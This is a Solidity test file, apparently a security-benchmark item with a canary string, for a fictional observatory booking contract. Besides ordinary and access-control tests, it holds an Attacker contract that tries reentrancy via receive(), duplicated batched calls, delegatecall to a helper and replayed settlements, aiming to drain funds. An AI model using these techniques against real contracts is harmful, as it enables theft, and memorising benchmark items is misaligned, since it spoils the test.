// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.24;

import "./MeropeDome.sol";

// assay-canary-2fc17ad0-89de-4087-9d89-ad674edf7f86

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Wants more credit than it has paid for.
contract Attacker {
    MeropeDome internal dome;
    bool internal again;

    constructor(MeropeDome dome_) {
        dome = dome_;
    }

    receive() external payable {
        if (!again) return;
        again = false;
        _try(0, abi.encodeCall(dome.cashIn, (msg.value, payable(address(this)))));
    }

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok, ) = address(dome).call{value: value}(data);
    }

    function _pair(bytes memory a, bytes memory b) private view returns (bytes memory) {
        bytes[] memory calls = new bytes[](2);
        (calls[0], calls[1]) = (a, b);
        return abi.encodeCall(dome.sequence, (calls));
    }

    function evening() external {
        bytes memory buy = abi.encodeCall(dome.buyCredit, ());
        dome.buyCredit{value: 1 ether}();
        bytes memory one = abi.encodeCall(dome.cashIn, (0.9 ether, payable(address(this))));
        _try(0, _pair(one, one));
        again = true;
        _try(0, abi.encodeCall(dome.cashIn, (0.5 ether, payable(address(this)))));
        again = false;
        dome.buyCredit{value: 1 ether}();

        uint256 night = dome.tonight() + 9;
        bytes memory up = abi.encodeCall(dome.giveUp, (night));
        _try(0, _pair(abi.encodeCall(dome.book, (night, 0.2 ether)), abi.encodeCall(dome.book, (night, 0.2 ether))));
        _try(0, abi.encodeCall(dome.book, (night, 0.2 ether)));
        _try(0, _pair(up, up));
        _try(0, _pair(abi.encodeCall(dome.cede, (night, address(1))), up));
        _try(0, _pair(abi.encodeCall(dome.setPrice, (0)), abi.encodeCall(dome.book, (night + 1, 0.2 ether))));
        _try(0, abi.encodeCall(dome.collect, (payable(address(this)))));
        _try(0, abi.encodeCall(dome.settle, (night)));

        address meter = dome.photometry();
        (bool ok, ) = meter.call(abi.encodeCall(Photometry.brightness, (type(uint64).max, 1)));
        (ok, ) = meter.delegatecall(abi.encodeCall(Photometry.brightness, (type(uint64).max, 1)));
        _try(0, _pair(abi.encodeCall(dome.note, (night, 1, 0)), abi.encodeCall(dome.note, (0, 1, 1))));

        uint256 left = address(this).balance;
        _try(left, _pair(buy, _pair(buy, buy)));
        _try(left, _pair(buy, buy));
    }

    function nextWeeks() external {
        uint256 night = dome.tonight() - 1;
        bytes memory done = abi.encodeCall(dome.settle, (night));
        _try(0, abi.encodeCall(dome.giveUp, (night)));
        _try(0, abi.encodeCall(dome.note, (night, type(uint64).max, 1)));
        _try(0, _pair(done, done));
        _try(0, done);
        _try(0, done);
        _try(0, abi.encodeCall(dome.giveUp, (night)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ODA = address(0x0DA);
    MeropeDome internal dome;
    Attacker internal moth;

    function setUp() public {
        vm.warp(1_700_000_000);
        dome = new MeropeDome(0.2 ether);
        moth = new Attacker(dome);
        vm.deal(address(moth), 2 ether);
        vm.deal(ODA, 5 ether);
        vm.prank(ODA);
        dome.buyCredit{value: 5 ether}();
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(dome).call(data);
    }

    function test_Regular() public {
        uint256 night = dome.tonight() + 10;
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(dome.book, (night, 0.2 ether));
        calls[1] = abi.encodeCall(dome.book, (night + 1, 0.2 ether));
        vm.prank(ODA);
        dome.sequence(calls);
        require(dome.credit(ODA) == 4.6 ether, "two nights");
        require(!_try(abi.encodeCall(dome.book, (night, 0.2 ether))), "taken");
        dome.setPrice(0.3 ether);
        vm.prank(ODA);
        require(!_try(abi.encodeCall(dome.book, (night + 2, 0.2 ether))), "dearer");
        vm.prank(ODA);
        dome.giveUp(night + 1);
        require(dome.credit(ODA) == 4.8 ether, "paid back as it was paid");
        vm.prank(ODA);
        require(!_try(abi.encodeCall(dome.note, (night, 1, 1))), "not yet");

        vm.warp((night + 1) * 1 days);
        vm.prank(ODA);
        dome.note(night, 1_024_000, 1000);
        vm.prank(ODA);
        dome.note(night, type(uint64).max, 1);
        MeropeDome.Frame[] memory frames = dome.framesOf(night);
        require(frames.length == 2 && frames[0].brightness == 10 && frames[1].brightness == 63, "frames");
        dome.settle(night);
        require(!_try(abi.encodeCall(dome.settle, (night))), "once");
        dome.collect(payable(address(0xCAFE)));
        require(address(0xCAFE).balance == 0.2 ether, "earned");
        vm.prank(ODA);
        dome.cashIn(4.8 ether, payable(ODA));
        require(ODA.balance == 4.8 ether && address(dome).balance == 0, "cashed in");

        vm.warp(block.timestamp + 1 days);
        vm.deal(ODA, 1 ether);
        vm.prank(ODA);
        dome.buyCredit{value: 1 ether}();
        night = dome.tonight() + 3;
        vm.prank(ODA);
        dome.book(night, 0.3 ether);
        vm.prank(ODA);
        dome.cede(night, address(this));
        (address observer, , ) = dome.nights(night);
        require(observer == address(this), "ceded");
    }

    /// Every credit, and what is earned, is there in ether.
    function covered() public view returns (bool) {
        return address(dome).balance >= dome.credit(ODA) + dome.credit(address(moth)) + dome.earned();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A night is its observer's, and the dome its keeper's.
    function test_RefusesStrangers() public {
        uint256 night = dome.tonight() + 10;
        vm.prank(ODA);
        dome.book(night, 0.2 ether);
        refuses(address(0xBEE), abi.encodeWithSelector(MeropeDome.NotYourNight.selector, night));
        dome.cede(night, address(0xBEE));
        refuses(address(0xBEE), abi.encodeWithSelector(MeropeDome.NotYourNight.selector, night));
        dome.giveUp(night);
        refuses(ODA, MeropeDome.KeeperOnly.selector);
        dome.setPrice(0);
        refuses(ODA, MeropeDome.KeeperOnly.selector);
        dome.collect(payable(ODA));
        vm.warp((night + 1) * 1 days);
        refuses(address(0xBEE), abi.encodeWithSelector(MeropeDome.NotYourNight.selector, night));
        dome.note(night, 1, 1);
    }

    /// Nights that are over, too far, taken, not in time.
    function test_RefusesNights() public {
        uint256 night = dome.tonight();
        bytes4 range = MeropeDome.OutOfRange.selector;
        refuses(ODA, abi.encodeWithSelector(range, night));
        dome.book(night, 0.2 ether);
        refuses(ODA, abi.encodeWithSelector(range, night + 91));
        dome.book(night + 91, 0.2 ether);
        vm.prank(ODA);
        dome.book(night + 3, 0.2 ether);
        refuses(ODA, abi.encodeWithSelector(MeropeDome.Taken.selector, night + 3));
        dome.book(night + 3, 0.2 ether);
        refuses(ODA, abi.encodeWithSelector(range, night + 3));
        dome.cede(night + 3, address(0));
        refuses(ODA, abi.encodeWithSelector(range, night + 3));
        dome.giveUp(night + 3);
        vm.expectRevert(abi.encodeWithSelector(range, night + 3));
        dome.settle(night + 3);
        vm.warp((night + 4) * 1 days);
        refuses(ODA, abi.encodeWithSelector(range, night + 3));
        dome.cede(night + 3, address(0xBEE));
        vm.expectRevert(abi.encodeWithSelector(range, night + 2));
        dome.settle(night + 2);
    }

    /// Frames without exposure, long sequences, and accounts that take no ether.
    function test_RefusesCalls() public {
        uint256 night = dome.tonight() + 1;
        vm.prank(ODA);
        dome.book(night, 0.2 ether);
        vm.warp((night + 1) * 1 days);
        refuses(ODA, MeropeDome.NotReduced.selector);
        dome.note(night, 1, 0);
        Photometry meter = Photometry(dome.photometry());
        vm.expectRevert(Photometry.ShutterClosed.selector);
        meter.brightness(1, 0);
        bytes[] memory calls = new bytes[](17);
        for (uint256 i = 0; i < 17; ++i) calls[i] = abi.encodeCall(dome.buyCredit, ());
        vm.expectRevert(MeropeDome.TooManyCalls.selector);
        dome.sequence(calls);
        calls = new bytes[](1);
        calls[0] = abi.encodeCall(dome.setPrice, (0));
        refuses(ODA, MeropeDome.KeeperOnly.selector);
        dome.sequence(calls);
        refuses(ODA, MeropeDome.PaymentRefused.selector);
        dome.cashIn(1, payable(address(meter)));
    }

    function exploit() public {
        moth.evening();
        vm.warp(block.timestamp + 10 days);
        moth.nextWeeks();
    }

    function test_Exploit() public {
        exploit();
        require(!covered(), "covered");
    }

    function target() public view returns (address) {
        return address(dome);
    }

    function attacker() public view returns (address) {
        return address(moth);
    }
}
